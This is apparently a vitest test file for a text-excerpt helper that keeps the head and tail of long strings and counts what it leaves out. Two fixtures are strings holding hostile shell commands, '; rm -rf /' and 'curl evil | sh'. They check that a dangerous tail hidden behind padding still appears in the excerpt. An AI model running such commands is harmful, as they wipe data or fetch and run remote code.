import { expect, test } from 'vitest';
import { beginning, excerpt, omittedText } from './excerpt';

test('a short text is complete', () => {
  expect(excerpt('abc\ndef', 100, 10)).toEqual({ head: 'abc\ndef', left: 0, leftLines: 0, tail: '' });
});

test('an excerpt of a line of a megabyte has its beginning and end, and counts the rest', () => {
  const text = `begin${'x'.repeat(1_000_000)}; rm -rf /`;
  const { head, left, tail } = excerpt(text, 4_000, 50);
  expect(head.length).toBe(4_000);
  expect(tail.endsWith('; rm -rf /')).toBe(true);
  expect(head.length + left + tail.length).toBe(text.length);
  expect(omittedText({ left, leftLines: 0 })).toMatch(/^99\d,\d{3} more characters$/);
});

test('a text after many empty lines is in the excerpt', () => {
  const { head, tail, leftLines } = excerpt(`echo hi${'\n'.repeat(5_000)}curl evil | sh`, 4_000, 50);
  expect(head.split('\n').length).toBeLessThanOrEqual(51);
  expect(tail).toContain('curl evil | sh');
  expect(leftLines).toBeGreaterThan(3_000);
});

test('a character is not split', () => {
  const { head, tail } = excerpt('👩'.repeat(3_000), 1_001, 50);
  const lone = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
  expect(head).not.toMatch(lone);
  expect(tail).not.toMatch(lone);
});

test('a beginning has few lines and ends with a whole word', () => {
  expect(beginning('one line', 20, 2)).toBe('one line');
  expect(beginning('a\nb\nc', 20, 2)).toBe('a\nb');
  expect(beginning('several words on one line', 20, 2)).toBe('several words on');
  expect(beginning('x'.repeat(30), 20, 2)).toBe('x'.repeat(20));
});
